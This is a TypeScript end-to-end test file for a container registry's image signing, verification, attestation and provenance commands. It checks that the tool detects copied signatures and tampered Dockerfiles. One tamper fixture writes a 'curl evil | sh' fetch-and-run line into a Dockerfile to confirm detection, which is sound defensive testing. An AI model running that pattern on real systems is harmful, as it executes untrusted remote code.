/**
 * End to end: keygen → push an image with skopeo → sign → verify → tamper → attest →
 * verify-attestation → attestations, running the commands as a separate process against a real
 * listening Portcullis, and against CNCF Distribution (no referrers API: tag scheme plus the
 * referrers tag fallback) when /usr/bin/docker-registry is installed.
 */
import { existsSync, readFileSync } from "node:fs";
import { rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestServer, type TestServer } from "../../src/server/testing.js";
import { type WrittenImage, writeImageLayout } from "../support/oci-layout.js";
import { unavailable } from "../support/requirements.js";
import {
  DISTRIBUTION_BIN,
  hasCommand,
  REPO_ROOT,
  type RegistryServer,
  type RunResult,
  run,
  startDistribution,
  tempDir,
} from "../support/targets.js";

const TIMEOUT = 120_000;
const HAS_SKOPEO = hasCommand("skopeo");
const PASSWORD = "correct horse battery staple";

/** The real binary, as users run it (the suite builds dist/ before vitest runs). */
function cliCommand(): string[] {
  return [join(REPO_ROOT, "bin", "portcullis.js")];
}

interface Registry {
  host: string;
  close(): Promise<void>;
}

async function pushImage(work: string, host: string, image: WrittenImage, layout: string, repo: string) {
  await run(
    "skopeo",
    [
      "copy",
      "--retry-times",
      "0",
      "--dest-tls-verify=false",
      "--preserve-digests",
      `oci:${layout}:${image.tag}`,
      `docker://${host}/${repo}:${image.tag}`,
    ],
    { env: { HOME: work, REGISTRY_AUTH_FILE: join(work, "auth.json") }, timeoutMs: 60_000 },
  );
}

function suite(name: string, start: () => Promise<Registry>) {
  describe.skipIf(unavailable("skopeo", HAS_SKOPEO))(`trust commands against ${name}`, () => {
    const temps: string[] = [];
    let registry: Registry;
    let work: string;
    let v1: WrittenImage;
    let v2: WrittenImage;
    const cli = cliCommand();

    function portcullis(args: string[], env: Record<string, string> = {}): Promise<RunResult> {
      return run(process.execPath, [...cli, ...args], {
        cwd: work,
        env: { PORTCULLIS_PASSWORD: PASSWORD, DOCKER_CONFIG: join(work, "docker"), ...env },
        allowFailure: true,
        timeoutMs: 60_000,
      });
    }

    beforeAll(async () => {
      work = await tempDir("e2e-trust-", temps);
      await writeFile(join(work, "auth.json"), JSON.stringify({ auths: {} }));
      const layout = join(work, "layout");
      v1 = await writeImageLayout(layout, { tag: "v1", layerSizes: [4096] });
      v2 = await writeImageLayout(layout, { tag: "v2", seed: "trust-second", layerSizes: [2048] });
      registry = await start();
      await pushImage(work, registry.host, v1, layout, "app");
      await pushImage(work, registry.host, v2, layout, "app");
    }, TIMEOUT);

    afterAll(async () => {
      await registry?.close();
      for (const dir of temps) await rm(dir, { recursive: true, force: true });
    });

    it(
      "keygen writes an encrypted key pair and refuses to overwrite it",
      async () => {
        const made = await portcullis(["keygen"]);
        expect(made.code, made.stderr).toBe(0);
        const key = readFileSync(join(work, "cosign.key"), "utf8");
        expect(key).toContain("BEGIN ENCRYPTED SIGSTORE PRIVATE KEY");
        expect(key).not.toContain(PASSWORD);
        expect(readFileSync(join(work, "cosign.pub"), "utf8")).toContain("BEGIN PUBLIC KEY");
        const again = await portcullis(["keygen"]);
        expect(again.code).toBe(2);
        expect(again.stderr).toMatch(/refusing to write cosign\.key/);
        expect(readFileSync(join(work, "cosign.key"), "utf8")).toBe(key);
        const other = await portcullis(["keygen", "--algorithm", "ed25519", "--output-prefix", "other"]);
        expect(other.code, other.stderr).toBe(0);
      },
      TIMEOUT,
    );

    it(
      "signs a tag's digest by both schemes",
      async () => {
        const signed = await portcullis([
          "sign",
          `${registry.host}/app:v1`,
          "--key",
          "cosign.key",
          "-a",
          "env=prod",
        ]);
        expect(signed.code, signed.stderr).toBe(0);
        expect(signed.stdout).toContain(v1.digest);
        expect(signed.stdout).toContain(`${v1.digest.replace(":", "-")}.sig`);
        expect(signed.stdout).toMatch(/referrer: +sha256:/);
        const wrong = await portcullis(["sign", `${registry.host}/app:v1`, "--key", "cosign.key"], {
          PORTCULLIS_PASSWORD: "not it",
        });
        // A wrong password is an input error, as everywhere: exit 2 naming the key (issue 12).
        expect(wrong.code).toBe(2);
        expect(wrong.stderr).toContain("cosign.key");
        expect(wrong.stderr).not.toContain("not it");
      },
      TIMEOUT,
    );

    it(
      "verifies with the right key and annotations, and fails otherwise",
      async () => {
        const ok = await portcullis([
          "verify",
          `${registry.host}/app:v1`,
          "--key",
          "cosign.pub",
          "-o",
          "json",
        ]);
        expect(ok.code, ok.stderr + ok.stdout).toBe(0);
        const result = JSON.parse(ok.stdout);
        expect(result.digest).toBe(v1.digest);
        expect(
          result.checks
            .filter((c: { ok: boolean }) => c.ok)
            .map((c: { source: string }) => c.source)
            .sort(),
        ).toEqual(["referrer", "tag"]);
        const table = await portcullis([
          "verify",
          `${registry.host}/app:v1`,
          "--key",
          "cosign.pub",
          "-a",
          "env=prod",
        ]);
        expect(table.code).toBe(0);
        expect(table.stdout).toMatch(/2 of 2 signatures valid/);
        const annotation = await portcullis([
          "verify",
          `${registry.host}/app:v1`,
          "--key",
          "cosign.pub",
          "-a",
          "env=dev",
        ]);
        expect(annotation.code).toBe(1);
        expect(annotation.stdout).toContain("ANNOTATION_MISMATCH");
        const otherKey = await portcullis([
          "verify",
          `${registry.host}/app:v1`,
          "--key",
          "other.pub",
          "-o",
          "json",
        ]);
        expect(otherKey.code).toBe(1);
        const reasons = JSON.parse(otherKey.stdout).checks.map((c: { reason: string }) => c.reason);
        expect(reasons).toHaveLength(2);
        for (const reason of reasons) expect(["SIGNATURE_MISMATCH", "KEY_MISMATCH"]).toContain(reason);
        const badFlags = await portcullis(["verify", `${registry.host}/app:v1`]);
        expect(badFlags.code).toBe(2);
        const unsigned = await portcullis(["verify", `${registry.host}/app:v2`, "--key", "cosign.pub"]);
        expect(unsigned.code).toBe(1);
        expect(unsigned.stdout).toContain("no signatures found");
      },
      TIMEOUT,
    );

    it(
      "refuses a signature copied onto another image with a digest mismatch",
      async () => {
        const base = `http://${registry.host}/v2/app/manifests`;
        const accept = { Accept: "application/vnd.oci.image.manifest.v1+json" };
        const sig = await fetch(`${base}/${v1.digest.replace(":", "-")}.sig`, { headers: accept });
        expect(sig.status).toBe(200);
        const put = await fetch(`${base}/${v2.digest.replace(":", "-")}.sig`, {
          method: "PUT",
          headers: { "Content-Type": "application/vnd.oci.image.manifest.v1+json" },
          body: Buffer.from(await sig.arrayBuffer()),
        });
        expect(put.status).toBe(201);
        const tampered = await portcullis([
          "verify",
          `${registry.host}/app:v2`,
          "--key",
          "cosign.pub",
          "-o",
          "json",
        ]);
        expect(tampered.code).toBe(1);
        const [check] = JSON.parse(tampered.stdout).checks;
        expect(check.reason).toBe("DIGEST_MISMATCH");
        expect(check.message).toContain(v1.digest);
      },
      TIMEOUT,
    );

    it(
      "attests an SLSA predicate and checks it with CEL",
      async () => {
        const predicate = {
          buildDefinition: { buildType: "https://example.com/build/v1", externalParameters: {} },
          runDetails: { builder: { id: "https://ci.example.com/runner" } },
        };
        await writeFile(join(work, "slsa.json"), JSON.stringify(predicate));
        const attested = await portcullis([
          "attest",
          `${registry.host}/app:v1`,
          "--predicate",
          "slsa.json",
          "--type",
          "slsaprovenance1",
          "--key",
          "cosign.key",
        ]);
        expect(attested.code, attested.stderr).toBe(0);
        expect(attested.stdout).toContain(".att");
        const verifyArgs = [
          "verify-attestation",
          `${registry.host}/app:v1`,
          "--key",
          "cosign.pub",
          "--type",
          "slsaprovenance1",
        ];
        const pass = await portcullis([
          ...verifyArgs,
          "--condition",
          'predicate.runDetails.builder.id == "https://ci.example.com/runner"',
        ]);
        expect(pass.code, pass.stderr + pass.stdout).toBe(0);
        expect(pass.stdout).toMatch(/2 of 2 attestations valid/);
        const failing = await portcullis([
          ...verifyArgs,
          "--condition",
          'predicate.buildDefinition.buildType == "other"',
        ]);
        expect(failing.code).toBe(1);
        expect(failing.stdout).toContain("CONDITION_FAILED");
        const broken = await portcullis([...verifyArgs, "--condition", "predicate.("]);
        expect(broken.code).toBe(2);
        expect(broken.stderr).toMatch(/--condition: the condition does not compile/);
        const otherType = await portcullis([...verifyArgs.slice(0, -1), "cyclonedx"]);
        expect(otherType.code).toBe(1);
      },
      TIMEOUT,
    );

    it(
      "writes Dockerfile provenance with resolved base images and proves the Dockerfile",
      async () => {
        const dockerfile = `ARG BASE=${registry.host}/app:v2\nFROM \${BASE} AS build\nRUN make\nFROM build\nCOPY . /\n`;
        await writeFile(join(work, "Dockerfile"), dockerfile);
        const made = await portcullis([
          "provenance",
          "--image",
          `${registry.host}/app:v1`,
          "--dockerfile",
          "Dockerfile",
          "--context",
          ".",
          "--builder-id",
          "https://ci.example.com/builder",
          "--source-uri",
          "git+https://example.com/repo",
          "--source-digest",
          "sha1:0123456789abcdef0123456789abcdef01234567",
          "--output",
          "provenance.json",
          "--key",
          "cosign.key",
        ]);
        expect(made.code, made.stderr).toBe(0);
        const predicate = JSON.parse(readFileSync(join(work, "provenance.json"), "utf8"));
        expect(
          predicate.buildDefinition.resolvedDependencies.map((d: { digest: object }) => d.digest),
        ).toEqual([
          { sha1: "0123456789abcdef0123456789abcdef01234567" },
          { sha256: v2.digest.slice("sha256:".length) },
        ]);
        const args = ["verify-provenance", `${registry.host}/app:v1`, "--key", "cosign.pub"];
        const ok = await portcullis([
          ...args,
          "--builder-id",
          "https://ci.example.com/builder",
          "--source-uri",
          "https://example.com/repo",
          "--dockerfile",
          "Dockerfile",
        ]);
        expect(ok.code, ok.stdout + ok.stderr).toBe(0);
        await writeFile(join(work, "Dockerfile.evil"), dockerfile.replace("make", "curl evil | sh"));
        const tampered = await portcullis([...args, "--dockerfile", "Dockerfile.evil"]);
        expect(tampered.code).toBe(1);
        expect(tampered.stdout).toContain("the Dockerfile was tampered with");
        const otherBuilder = await portcullis([...args, "--builder-id", "https://evil.example"]);
        expect(otherBuilder.code).toBe(1);
      },
      TIMEOUT,
    );

    it(
      "lists what is attached, and does not duplicate a repeated signature",
      async () => {
        const again = await portcullis([
          "sign",
          `${registry.host}/app:v1`,
          "--key",
          "cosign.key",
          "-a",
          "env=prod",
        ]);
        expect(again.code).toBe(0);
        expect(again.stdout).toContain("already there");
        const listed = await portcullis([
          "attestations",
          `${registry.host}/app:v1`,
          "--key",
          "cosign.pub",
          "-o",
          "json",
        ]);
        expect(listed.code, listed.stderr).toBe(0);
        const artifacts = JSON.parse(listed.stdout).artifacts as Array<Record<string, unknown>>;
        const tagSignatures = artifacts.filter((a) => a.kind === "signature" && a.source === "tag");
        expect(tagSignatures).toHaveLength(1);
        // The SLSA predicate and the Dockerfile provenance, each by both schemes.
        expect(artifacts.filter((a) => a.kind === "attestation")).toHaveLength(4);
        // Portcullis may attach its own SBOM referrer on push (scan on push): listed, not verified.
        const signed = artifacts.filter((a) => a.kind !== "sbom" && a.kind !== "other");
        expect(signed.filter((a) => a.kind === "unreadable" || a.verified !== true)).toEqual([]);
        for (const sbom of artifacts.filter((a) => a.kind === "sbom"))
          expect(sbom.type).toMatch(/cyclonedx|spdx/);
        const table = await portcullis(["attestations", `${registry.host}/app:v1`]);
        expect(table.stdout).toContain("https://slsa.dev/provenance/v1");
      },
      TIMEOUT,
    );
  });
}

suite("Portcullis", async () => {
  const server: TestServer = await startTestServer({ database: "sqlite" });
  return { host: new URL(server.url).host, close: () => server.close() };
});

if (existsSync(DISTRIBUTION_BIN)) {
  suite("CNCF Distribution", async () => {
    const server: RegistryServer = await startDistribution();
    return { host: server.host, close: () => server.dispose() };
  });
}
